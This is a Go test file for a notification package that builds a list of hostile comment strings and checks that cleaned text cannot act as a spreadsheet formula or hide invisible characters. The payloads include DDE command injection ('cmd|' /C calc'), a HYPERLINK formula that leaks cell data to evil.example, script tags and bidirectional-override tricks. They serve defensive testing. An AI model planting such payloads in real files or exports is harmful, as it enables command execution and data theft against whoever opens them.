package notify_test

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// payloads are comments that contain formulas, markup and control characters.
func payloads() []string {
	list := []string{
		"", " ", "plain", "-5", "+5", "5", "1e5", "@name", "=1+1", "'=1+1", "''", "\"", "\"=1+1", ";=1+1", ",=1+1", "|=1+1",
		"\u2029=1+1", "\u2028=1+1", "\u0085=1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1", "\u2066=1+1", "\u034f=1+1", "\u3164=1+1",
		"＝1+1", "＋1", "－1", "＠SUM(1)", "\ufe62=1", "=", "-", "+", "@", "\t", "\r", "\n",
		"<b>bold</b>", "*bold*", "_it_", "`code`", "```\ncode\n```", "[a](https://evil.example)", "https://evil.example/", "tg://user?id=1", "/start", "@everyone",
		"&amp;", "&#61;1+1", "&lt;script&gt;", "<script>alert(1)</script>", "]]>", "<![CDATA[x]]>", "<!--", "<?xml?>", "_x003D_1", "_x0000_", "_xFFFF_", "_x000D_x",
		"%3D1", "\\u003d1", "\x00=1+1", "a\x00b", "\x01\x02\x1b[31mred", "\x7f", "\u009b31m", "a\nPosition closed: long 9", "a\r\nb", "a\tb", "a\vb", "a\fb",
		"\u202eevil\u202c", "\u2067a\u2069", "\u061c", "\u200f\u200e", "\U000e0041\U000e0042", "\ufff9x\ufffb", "\U0001f468\u200d\U0001f469", "é", "e\u0301", "日本語",
		"\ufffe", "\uffff", "\ufdd0", "\U0001ffff", "\ue000", "\U0010ffff", "\ud7ff", string(utf8.RuneError), strings.Repeat("x", 999), strings.Repeat("x", 1000),
		strings.Repeat("x", 1001), strings.Repeat("=", 5000), strings.Repeat("\U0001f600", 3000), strings.Repeat("a\u0301", 3000),
	}
	for _, lead := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " ="} {
		list = append(list, lead+`cmd|' /C calc'!A0`, lead+`HYPERLINK("https://evil.example?"&A1,"x")`)
	}
	return list
}

// checkClean fails the test unless a text is valid UTF-8 without invisible characters.
func checkClean(t *testing.T, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("text = %q, want valid UTF-8", text)
	}
	for _, r := range text {
		if r != '\n' && r != '\u200d' && (unicode.Is(unicode.C, r) || unicode.In(r, unicode.Zl, unicode.Zp, unicode.Bidi_Control)) {
			t.Errorf("text = %q contains %U, want none of its kind", text, r)
		}
	}
}

// checkTextCell fails the test if a cell could be evaluated as a formula.
func checkTextCell(t *testing.T, text string) {
	t.Helper()
	checkClean(t, text)
	if strings.Contains(text, "\n") || (text != "" && strings.ContainsAny(text[:1], "=+-@\t\r")) || strings.HasPrefix(text, "＝") {
		t.Errorf("cell = %q, want one that is no formula", text)
	}
	if utf8.RuneCountInString(text) > 1001 {
		t.Errorf("cell has %d characters, want at most 1001", utf8.RuneCountInString(text))
	}
}

func TestPayloadsAreMany(t *testing.T) {
	if n := len(payloads()); n < 100 {
		t.Fatalf("payloads = %d, want at least 100", n)
	}
}
